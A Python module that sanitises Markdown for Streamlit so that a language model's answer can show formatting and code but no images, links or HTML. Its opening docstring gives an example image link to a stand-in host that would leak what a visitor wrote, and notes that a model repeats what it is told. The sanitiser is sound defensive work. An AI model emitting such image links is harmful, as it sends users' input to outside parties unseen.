r"""Markdown that shows a text and does nothing else: no image, no link, no HTML.

A model repeats what it was taught or told. `![](https://elsewhere/?q=what-you-said)` in an answer
would make the browser fetch that address, so what a visitor wrote would leave the page without a
click. Here such a thing is shown as it was written, while headings, lists, tables, emphasis and
code still look like themselves.

Streamlit's page hands Markdown to remark. That parser knows many more ways to write a link than
can be listed, so nothing is searched for and removed. Instead every character that can start
anything but plain formatting is escaped:

    [    links, images, references, footnotes, tick boxes       <    HTML, autolinks
    :    Streamlit's directives, :red[...]                      $    maths; here mostly money
    &    character references: &#33; would become ! again       \    or it would undo our escapes
    `    code, except where we are sure that it is code         ~~~  a fence of code

Two things are left to solve:

Code is shown verbatim, so it cannot be escaped. What we take for code must then be code for remark
as well, or its content would come to life. So we take only what leaves no room for doubt, write it
again in the plainest form, and escape every other backtick. A block becomes a fence that starts
its line, is longer than any row of backticks inside, and is always closed, even while the answer
is still being written. A code span stays in its line, between single backticks; and where there
may be a table, which remark cuts at every | before it looks for code, no bare | is left in it.

After it has parsed, remark searches the plain text for addresses, :icons: and arrows, when escapes
are gone. It leaves code alone, so addresses are shown as code. Into the others goes a word joiner,
a character without width that keeps them from being recognised.
"""

from __future__ import annotations

import re
from collections import deque
from collections.abc import Iterable
from itertools import groupby

WORD_JOINER = "\u2060"
# A list's marker, quotes and indentation may stand before a fence. ~~~ may have ` after it.
FENCE = re.compile(
    r"(?P<before>[ \t>]*+(?:(?:[-*+]|\d{1,9}[.)])[ \t]++)?)"
    r"(?:(?P<ticks>`{3,})(?P<info>[^`]*)|(?P<tildes>~{3,})(?P<note>.*))"
)
INDENTED = re.compile(r" {0,3}\t| {4}")
LIST_ITEM = re.compile(r"[ \t>]*+(?:[-*+]|\d{1,9}[.)])(?:[ \t]|$)")
# The line below a table's head, a rule, the line below a heading: nothing in it needs an escape.
RULE = re.compile(r"(?:[\s>]|[*+-]\s|\d{1,9}[.)]\s)*+[\s|:=_*-]*")
# At least every line that can be below a table's head: better one too many.
TABLE_RULE = re.compile(r"(?=.*-)(?=.*[|:])[\s>|:*+\d.)-]*")
# Streamlit draws the first as a picture, with images and links in it, and the other as a formula.
DRAWN = ("mermaid", "math")

INLINE = re.compile(
    r"""
    (?P<code> (?<!`) (?P<ticks> `+ ) (?P<inside> [^`]+ ) (?P=ticks) (?!`) )
  | (?P<address>
        (?: https?:// | www\. ) (?: [^\s`|<]* [\w/=&\#%+-] )?  # what ends a sentence is not in it
      | (?<![-.+\w]) [-.+\w]+ @ [-.\w]* \w )
  | (?P<arrow> (?<!\S) (?: <-> | -> | <- | -- | >= | <= | ~= ) (?!\S) )
  | (?P<shortcode> : (?! \d\d?: ) (?= [\w+-]+ : ) )  # :smile:, but not the time 12:30:00
  | (?P<kept> \\ \| )  # a | that does not end a table's cell
  | (?P<times> (?<=\d) \*+ (?=\d) )  # 2*3*4 has no emphasis
  | (?P<special> [\\`&<\[:$] | ~{3,} )
    """,
    re.VERBOSE | re.IGNORECASE,
)
# A | in code after an even number of backslashes, which does not count as escaped.
BARE_PIPE = re.compile(r"(?<!\\)((?:\\\\)*)\|")


def safe_markdown(text: str) -> str:
    """Markdown for `st.markdown` in which only formatting and code have an effect.

    A line's end stays one, as in a poem. Give the headings no anchors (`anchors=False`), since
    those are links too, and do not hand the result to `st.write_stream`, which completes Markdown
    that it takes for unfinished.
    """
    # Whatever any parser takes for the end of a line becomes \n; half a character becomes a ?.
    text = "\n".join(printable(text).splitlines())
    # Streamlit's page replaces this before anything is parsed, in code too.
    lines = deque(text.replace(":material/", f":{WORD_JOINER}material/").split("\n"))
    shown: list[str] = []
    near_table = near_table_rule(lines)
    in_list, fence_indent = False, 0
    while lines:
        line = lines[0]
        after_blank = not (shown and shown[-1])
        if line.strip() and not line.startswith((" ", "\t")):
            if fence_indent:  # the next item of a list that our fence has ended
                shown.append("")
            in_list, fence_indent = in_list and not after_blank, 0
        in_list = in_list or bool(LIST_ITEM.match(line))
        fence = FENCE.fullmatch(line)
        if fence:
            lines.popleft()
            if LIST_ITEM.match(fence["before"]):
                shown += ["", fence["before"]]
            shown += fenced(take_fence(lines, fence), language_of(fence))
            in_list, fence_indent = False, len(fence["before"])
        elif (
            after_blank and INDENTED.match(line) and line.strip() and not (in_list or fence_indent)
        ):
            shown += fenced(take_indented(lines), "")
        else:
            # Our fences end the list that they were in: what follows is not to look like code.
            line = re.sub(rf"^[ \t]{{0,{fence_indent}}}", "", line)
            shown.append(prose(line, near_table[-len(lines)]))
            lines.popleft()
    return "\n".join(shown)


def printable(text: object) -> str:
    """Text that can be sent to a browser: half a UTF-16 pair, as in odd file names, cannot."""
    return str(text).encode("utf-8", "replace").decode()


def near_table_rule(lines: Iterable[str]) -> list[bool]:
    """For every line, whether it may be in a table. An empty line ends one."""
    near = []
    for _, block in groupby(lines, key=lambda line: bool(line.strip())):
        rules = [bool(TABLE_RULE.fullmatch(line)) for line in block]
        near += [any(rules)] * len(rules)
    return near


def take_fence(lines: deque[str], fence: re.Match[str]) -> list[str]:
    """Takes the lines of code after an opening fence, and the closing one if there is one yet."""
    quoted = ">" in fence["before"]
    marker = fence["ticks"] or fence["tildes"]
    margin = re.compile(rf"[ \t{'>' if quoted else ''}]{{0,{len(fence['before'])}}}")
    closing = re.compile(rf"[ \t>]*+{marker[0]}{{{len(marker)},}}[ \t]*")
    content = []
    while lines and not (quoted and not lines[0].lstrip().startswith(">")):
        line = lines.popleft()
        if closing.fullmatch(line):
            break
        content.append(margin.sub("", line, count=1))
    return content


def take_indented(lines: deque[str]) -> list[str]:
    """Takes the lines of code that are marked as such by four spaces in front; the first is one."""
    content = []
    while lines and (INDENTED.match(lines[0]) or not lines[0].strip()):
        content.append(INDENTED.sub("", lines.popleft(), count=1))
    while not content[-1].strip():
        content.pop()
    return content


def language_of(fence: re.Match[str]) -> str:
    """What the code is to be coloured as, if that is all that the name can do."""
    name = re.match(r"[a-zA-Z0-9+#]*", (fence["info"] or fence["note"] or "").strip())
    return name[0] if name and name[0].lower() not in DRAWN else ""


def fenced(content: list[str], language: str) -> list[str]:
    """A block of code that nothing in it can end.

    The empty lines around it end what is open: a paragraph or a table.
    """
    longest = max((len(run) for line in content for run in re.findall("`+", line)), default=0)
    ticks = "`" * max(3, longest + 1)
    return ["", ticks + language, *content, ticks, ""]


def prose(line: str, near_table: bool) -> str:
    """A line that is not code, escaped. Two spaces at its end keep the break."""
    if RULE.fullmatch(line):
        return line.rstrip()
    escaped = INLINE.sub(lambda match: replacement(match, near_table), line)
    # Two code spans side by side would read as one marker of two backticks.
    return escaped.replace("``", f"`{WORD_JOINER}`") + "  "


def replacement(match: re.Match[str], near_table: bool) -> str:
    """How a piece of a line is written so that it is shown as it was."""
    found = match[0]
    if match.lastgroup == "kept":
        return found
    if match.lastgroup == "code":
        inside = match["inside"]
        return "`" + (BARE_PIPE.sub(r"\1\|", inside) if near_table else inside) + "`"
    if match.lastgroup == "address":
        return f"`{found}`"
    if match.lastgroup in ("arrow", "shortcode"):
        return f"\\{found[0]}{WORD_JOINER}{found[1:]}"
    return re.sub("(.)", r"\\\1", found)
